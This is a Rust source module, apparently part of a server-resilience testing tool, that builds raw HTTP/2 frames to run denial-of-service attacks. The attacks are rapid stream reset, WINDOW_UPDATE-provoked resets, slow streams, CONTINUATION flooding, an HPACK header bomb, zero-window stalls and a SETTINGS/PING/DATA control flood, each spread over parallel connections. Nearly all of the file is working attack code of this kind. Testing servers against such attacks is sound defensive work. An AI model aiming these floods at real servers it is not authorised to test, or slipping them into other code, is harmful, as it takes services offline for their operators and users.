//! Owns hostile HTTP/2 (RFC 9113), written frame by frame because no client library sends such
//! things. In plain text with prior knowledge (section 3.3).
//! Leaves judging to `attack`.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout, timeout_at};

use crate::Plan;
use crate::attack::Seen;
use crate::slow::TRICKLE;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frame types (section 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Between two rounds in the first of which nothing was to be sent.
const PAUSE: Duration = Duration::from_millis(10);
/// Rounds between two requests of a client that takes nothing: a tenth of a second.
const ROUNDS: u32 = 10;
/// Connections side by side in each attack.
const CONNECTIONS: usize = 10;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![len[1], len[2], len[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A field without indexing and without Huffman coding (RFC 7541, section 6.2.2). Short only.
fn field(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    for text in [name, value] {
        block.push(u8::try_from(text.len()).unwrap_or(127).min(126));
        block.extend(
            text.as_bytes()
                .get(..text.len().min(126))
                .unwrap_or_default(),
        );
    }
}

fn request(plan: &Plan, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    field(&mut block, ":method", "GET");
    field(&mut block, ":scheme", "http");
    field(&mut block, ":authority", plan.target.host());
    field(&mut block, ":path", path);
    block
}

/// Opens a connection and waits for the server's SETTINGS; None when it does not speak HTTP/2.
async fn open(plan: &Plan, settings: &[u8]) -> Option<TcpStream> {
    let mut stream = plan.target.connect().await.ok()?;
    let start = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
    stream.write_all(&start).await.ok()?;
    let first = async {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await.ok()?;
        let [high, middle, low, kind, ..] = head;
        // What follows it begins a frame.
        let mut settings = vec![0; u32::from_be_bytes([0, high, middle, low]) as usize];
        let is_spoken = kind == SETTINGS && stream.read_exact(&mut settings).await.is_ok();
        is_spoken.then_some(())
    };
    timeout(Duration::from_secs(2), first).await.ok()??;
    Some(stream)
}

/// Writes what `next` makes until the server ends the connection, by a frame of one of these types or
/// otherwise, or time is over; true when it ended.
async fn write_until(
    stream: TcpStream,
    end: Instant,
    (pause, ends): (Duration, &[u8]),
    mut next: impl FnMut(u32) -> Vec<u8>,
) -> bool {
    let (mut from, mut to) = stream.into_split();
    let writing = async {
        for round in 0.. {
            let bytes = next(round);
            if !bytes.is_empty() && to.write_all(&bytes).await.is_err() {
                return true;
            }
            if bytes.is_empty() || pause > PAUSE {
                sleep(pause).await;
            } else {
                tokio::task::yield_now().await;
            }
        }
        true
    };
    // What the server says must be read, or it could not say more.
    let reading = async {
        let mut head = [0; 9];
        loop {
            if from.read_exact(&mut head).await.is_err() || ends.contains(&head[3]) {
                return true;
            }
            let mut len =
                usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let mut sink = [0; 4096];
            while len > 0 {
                let piece = len.min(sink.len());
                match from.read(&mut sink[..piece]).await {
                    Ok(0) | Err(_) => return true,
                    Ok(count) => len -= count,
                }
            }
        }
    };
    let either = async {
        tokio::select! {
            ended = writing => ended,
            ended = reading => ended,
        }
    };
    timeout_at(end, either).await.unwrap_or(false)
}

/// The same on several connections at once.
async fn attack<N>(plan: &Plan, time: Duration, settings: &[u8], next: impl Fn() -> N) -> Seen
where
    N: FnMut(u32) -> Vec<u8> + Send + 'static,
{
    let end = Instant::now() + time;
    let mut set = tokio::task::JoinSet::new();
    let mut seen = Seen::default();
    for _ in 0..CONNECTIONS {
        let Some(stream) = open(plan, settings).await else {
            return seen;
        };
        seen.spoken = true;
        seen.used += 1;
        set.spawn(write_until(stream, end, (PAUSE, &[GOAWAY]), next()));
    }
    while let Some(ended) = set.join_next().await {
        seen.ended += usize::from(ended.unwrap_or(false));
    }
    seen
}

/// Client streams are odd (section 5.1.1).
fn stream_id(round: u32) -> u32 {
    (round & 0x3fff_ffff) * 2 + 1
}

pub(crate) async fn rapid_reset(plan: &Plan, time: Duration) -> Seen {
    each_followed_by(plan, time, RST_STREAM, 8).await
}

pub(crate) async fn made_reset(plan: &Plan, time: Duration) -> Seen {
    // A window opened by nothing is an error of the stream (section 6.9), which the server resets.
    each_followed_by(plan, time, WINDOW_UPDATE, 0).await
}

/// Requests without end, each with a frame of this kind and number right behind it.
async fn each_followed_by(plan: &Plan, time: Duration, kind: u8, number: u32) -> Seen {
    let block = request(plan, plan.target.path());
    attack(plan, time, &[], || {
        let block = block.clone();
        move |round| {
            let id = stream_id(round);
            [
                frame(HEADERS, END_STREAM | END_HEADERS, id, &block),
                frame(kind, 0, id, &number.to_be_bytes()),
            ]
            .concat()
        }
    })
    .await
}

pub(crate) async fn slow_streams(plan: &Plan, time: Duration) -> Seen {
    let end = Instant::now() + time;
    let mut post = Vec::new();
    field(&mut post, ":method", "POST");
    field(&mut post, ":scheme", "http");
    field(&mut post, ":authority", plan.target.host());
    field(&mut post, ":path", plan.target.path());
    let mut set = tokio::task::JoinSet::new();
    let mut seen = Seen::default();
    for number in 0..plan.connections {
        let Some(stream) = open(plan, &[]).await else {
            if !seen.spoken {
                return seen;
            }
            // One that is turned away holds nothing.
            seen.used += 1;
            seen.ended += 1;
            continue;
        };
        seen.spoken = true;
        seen.used += 1;
        let post = post.clone();
        let next = move |round: u32| match (number % 3, round) {
            (0, 0) => frame(HEADERS, END_STREAM, 1, &post),
            (0, _) => {
                let mut more = Vec::new();
                field(&mut more, "x-slow", "a");
                frame(CONTINUATION, 0, 1, &more)
            }
            (1, 0) => frame(HEADERS, END_HEADERS, 1, &post),
            (1, _) => frame(DATA, 0, 1, b"a"),
            // A connection and no request.
            _ => Vec::new(),
        };
        // An answer or a reset frees the server of a stream, which is all that there is.
        let ends: &[u8] = &[HEADERS, RST_STREAM, GOAWAY];
        set.spawn(write_until(stream, end, (TRICKLE, ends), next));
    }
    while let Some(ended) = set.join_next().await {
        seen.ended += usize::from(ended.unwrap_or(false));
    }
    seen
}

pub(crate) async fn continuation(plan: &Plan, time: Duration) -> Seen {
    let block = request(plan, plan.target.path());
    attack(plan, time, &[], || {
        let block = block.clone();
        move |round| {
            if round == 0 {
                return frame(HEADERS, END_STREAM, 1, &block);
            }
            let mut more = Vec::new();
            for _ in 0..20 {
                field(&mut more, "x-more", &"a".repeat(100));
            }
            frame(CONTINUATION, 0, 1, &more)
        }
    })
    .await
}

pub(crate) async fn header_bomb(plan: &Plan, time: Duration) -> Seen {
    let block = request(plan, plan.target.path());
    attack(plan, time, &[], || {
        let block = block.clone();
        move |round| {
            let mut block = block.clone();
            // One field goes into the table (RFC 7541, 6.2.1), then a byte each stands for it.
            block.push(0x40);
            block.push(5);
            block.extend(b"x-big");
            block.push(0x7f);
            block.extend([0xa1, 0x1e]);
            block.extend([b'a'; 4000]);
            block.extend(std::iter::repeat_n(0xbe, 12_000));
            frame(HEADERS, END_STREAM | END_HEADERS, stream_id(round), &block)
        }
    })
    .await
}

pub(crate) async fn zero_window(plan: &Plan, time: Duration) -> Seen {
    let path = plan
        .big
        .clone()
        .unwrap_or_else(|| plan.target.path().to_owned());
    let block = request(plan, &path);
    // SETTINGS_INITIAL_WINDOW_SIZE of 0 (section 6.5.2).
    attack(plan, time, &[0, 4, 0, 0, 0, 0], || {
        let block = block.clone();
        move |round| {
            // As many streams as most servers allow, asked for one after the other.
            if round % ROUNDS == 0 && round / ROUNDS < 100 {
                frame(
                    HEADERS,
                    END_STREAM | END_HEADERS,
                    stream_id(round / ROUNDS),
                    &block,
                )
            } else {
                Vec::new()
            }
        }
    })
    .await
}

pub(crate) async fn control_flood(plan: &Plan, time: Duration) -> Seen {
    attack(plan, time, &[], || {
        move |_| {
            [
                frame(SETTINGS, 0, 0, &[]),
                frame(PING, 0, 0, &[0; 8]),
                frame(DATA, 0, 1, &[]),
            ]
            .concat()
        }
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_the_head_of_section_4_1() {
        assert_eq!(
            frame(HEADERS, 5, 3, b"ab"),
            [0, 0, 2, 1, 5, 0, 0, 0, 3, b'a', b'b']
        );
    }
}
